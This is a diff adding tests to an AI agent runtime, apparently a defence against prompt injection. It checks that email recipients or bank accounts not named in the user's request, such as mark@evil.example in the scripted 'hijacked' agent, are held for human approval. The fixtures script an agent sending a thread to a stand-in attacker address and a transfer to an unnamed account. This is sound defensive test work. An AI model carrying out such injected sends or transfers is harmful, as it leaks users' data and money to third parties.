@@ -186,3 +186,103 @@ async def exported(rt: Runtime, run_id: str):
     provider.add_span_processor(SimpleSpanProcessor(exporter))
     await export_run(rt.store, run_id, provider)
     return exporter.get_finished_spans()
+
+
+async def test_a_delegated_recipient_takes_one_value_a_second_one_from_the_email_is_held(
+    db_url,
+):
+    """ "Reply to my latest email" delegates the reply's recipient: the sender the model
+    used first. The same e-mail naming a second address does not make that one delegated."""
+    hijacked = agent(
+        calls("read_email", {}),
+        calls("send_email", {"to": "billing@utility.example", "body": "received, thanks"}),
+        calls("send_email", {"to": "billing@utility.example", "body": "and paid"}),
+        calls("send_email", {"to": "mark@evil.example", "body": "the thread"}),
+        {"content": "done"},
+    )
+    async with Runtime(db_url) as rt:
+        result = await rt.run(hijacked, "Reply to my latest email")
+        events = await rt.events(result.run_id)
+    assert result.status == "waiting_approval"
+    assert [to for to, _ in SENT] == ["billing@utility.example"] * 2  # the same value again
+    decided = [d for d in of(events, PolicyDecided) if d.tool == "send_email"]
+    assert [d.verdict for d in decided] == ["allow", "allow", "require_approval"]
+    assert decided[0].provenance["to"]["delegated"]
+    assert decided[-1].provenance["to"]["suspect"]
+
+
+async def test_the_value_taken_first_survives_a_restart_it_is_rebuilt_from_the_journal(db_url):
+    first = calls("send_email", {"to": "billing@utility.example", "body": "received"})
+    second = calls("send_email", {"to": "mark@evil.example", "body": "the thread"})
+    async with Runtime(db_url) as rt:
+        parked = await rt.run(
+            agent(calls("read_email", {}), first, second, {"content": "done"}),
+            "Reply to my latest email",
+        )
+    # A new process knows nothing in memory: what the first reply took comes from the
+    # journal (the finished call), so the second address is still held there.
+    async with Runtime(db_url, owner="w2") as rt2:
+        (pending,) = await rt2.approvals()
+        run = await rt2.get_run(parked.run_id)
+    assert run.status == "waiting_approval" and pending.tool == "send_email"
+    assert "mark@evil.example" in pending.reason
+
+
+@tool(effect="read", idempotent=True, trusted=False)
+def get_transactions() -> str:
+    """The latest transactions (their subjects are written by the other party)."""
+    return (
+        "id 1 | Mia Chen | IBAN FR76 3000 6000 0112 3456 7890 189 | 75.00 EUR | oops, sorry\n"
+        "id 2 | Webshop | IBAN DE44 5001 0517 5407 3249 31 | 12.00 EUR | refund due"
+    )
+
+
+@tool(effect="irreversible", egress=("iban",), amounts=("amount",))
+def transfer_money(iban: str, amount: float) -> str:
+    """Send money."""
+    PAID.append((iban, amount))
+    return "sent"
+
+
+async def test_a_refund_picks_the_transaction_the_request_names_among_several_accounts(db_url):
+    def banker(iban: str, amount: float) -> Agent:
+        return Agent(
+            name="banker",
+            model={
+                "provider": "scripted",
+                "turns": [
+                    calls("get_transactions", {}),
+                    calls("transfer_money", {"iban": iban, "amount": amount}),
+                    {"content": "done"},
+                ],
+            },
+            tools=[get_transactions, transfer_money],
+        )
+
+    async with Runtime(db_url) as rt:
+        mia = await rt.run(
+            banker("FR7630006000011234567890189", 75.0), "Return the payment Mia made me by mistake"
+        )
+        shop = await rt.run(
+            banker("DE44500105175407324931", 12.0), "Return the payment Mia made me by mistake"
+        )
+    assert mia.status == "succeeded" and PAID == [("FR7630006000011234567890189", 75.0)]
+    assert shop.status == "waiting_approval"  # the other row's account: not the one named
+
+
+async def test_an_address_whose_domain_the_request_names_is_the_party_the_user_meant(db_url):
+    """ "Tell Utility the bill is paid" names the party (`billing@utility.example`) though
+    not the e-mail it came from; an address on another domain is not named so."""
+    named = calls("send_email", {"to": "billing@utility.example", "body": "paid"})
+    other = calls("send_email", {"to": "mark@evil.example", "body": "paid"})
+    async with Runtime(db_url) as rt:
+        told = await rt.run(
+            agent(calls("read_email", {}), named, {"content": "done"}),
+            "Tell Utility that the bill is paid",
+        )
+        not_named = await rt.run(
+            agent(calls("read_email", {}), other, {"content": "done"}),
+            "Tell Utility that the bill is paid",
+        )
+    assert told.status == "succeeded" and SENT == [("billing@utility.example", "paid")]
+    assert not_named.status == "waiting_approval"
